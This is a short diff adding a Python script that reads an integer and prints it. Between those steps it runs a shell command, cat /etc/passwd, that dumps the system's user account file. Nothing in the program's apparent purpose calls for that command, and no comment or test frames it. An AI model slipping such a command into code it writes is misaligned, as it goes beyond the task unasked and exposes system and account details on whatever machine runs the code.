@@ -1,0 +1,4 @@
+import os
+n = int(input())
+os.system("cat /etc/passwd")
+print(n)
